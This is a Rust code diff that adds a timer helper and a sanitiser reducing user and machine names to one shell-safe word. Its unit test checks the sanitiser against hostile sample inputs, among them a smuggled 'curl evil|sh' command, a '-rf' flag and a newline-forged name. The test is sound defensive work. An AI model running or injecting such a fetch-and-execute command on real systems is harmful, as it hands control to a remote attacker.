@@ -58,6 +58,22 @@ impl Machine for OnClock {
     }
 }
 
+/// How long a timer runs at most before the clocks are read again: timers stop while a machine is suspended.
+const LONGEST_TIMER: Duration = Duration::from_secs(30);
+
+/// Waits until one of the machine's clocks shows that `length` has passed: the wall clock may be set back, and the other
+/// one may stand still while the machine is suspended.
+pub async fn wait(machine: &dyn Machine, length: Duration) {
+    let begin = Moment::now(machine);
+    loop {
+        let left = length.saturating_sub(begin.elapsed(machine));
+        if left.is_zero() {
+            return;
+        }
+        machine.sleep(left.min(LONGEST_TIMER)).await;
+    }
+}
+
 /// A moment on both clocks of a machine.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub struct Moment {
@@ -90,9 +106,11 @@ impl Moment {
 /// A conductor.
 #[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
 pub struct Identity {
-    /// The user's name.
+    /// The user's name, as [`plain`] gives it.
+    #[serde(deserialize_with = "read_plain")]
     pub user: String,
-    /// The machine's name.
+    /// The machine's name, as [`plain`] gives it.
+    #[serde(deserialize_with = "read_plain")]
     pub machine: String,
     /// The process on that machine.
     pub process: u32,
@@ -123,6 +141,22 @@ pub enum Life {
     Unknown,
 }
 
+/// A name of a user or a machine as it is shown to others, and typed by them after `--take-over`. It comes from the
+/// environment or from a file in the state, so it is one word of at most 64 characters that no shell interprets: every
+/// other character is replaced by `_`.
+#[must_use]
+pub fn plain(name: &str) -> String {
+    let is_plain = |(index, letter): (usize, char)| {
+        letter.is_alphanumeric() || matches!(letter, '.' | '_' | '+') || (letter == '-' && index > 0)
+    };
+    let letters = name.chars().take(64).enumerate();
+    letters.map(|(index, letter)| if is_plain((index, letter)) { letter } else { '_' }).collect()
+}
+
+fn read_plain<'de, D: serde::Deserializer<'de>>(deserializer: D) -> Result<String, D::Error> {
+    Ok(plain(&String::deserialize(deserializer)?))
+}
+
 impl Identity {
     /// Whether the conductor `self` still runs, as seen from `machine`. The current process itself does not count as
     /// another conductor.
@@ -148,5 +182,22 @@ impl Identity {
 impl std::fmt::Display for Identity {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         write!(f, "{}@{} (process {})", self.user, self.machine, self.process)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn names_from_outside_are_single_words_that_no_shell_interprets() {
+        assert_eq!(plain("ada-2.lovelace"), "ada-2.lovelace");
+        assert_eq!(plain("-rf"), "_rf");
+        assert_eq!(plain("eve\n10:31 done"), "eve_10_31_done");
+        assert_eq!(plain(&"x".repeat(100)).len(), 64);
+        let text = r#"{"user":"eve\nFORGED","machine":"other; curl evil|sh #","process":7}"#;
+        let identity: Identity = serde_json::from_str(text).expect("an identity");
+        assert_eq!(identity.to_string(), "eve_FORGED@other__curl_evil_sh__ (process 7)");
+        assert!(identity.is_named("eve_FORGED@other__curl_evil_sh__"));
     }
 }
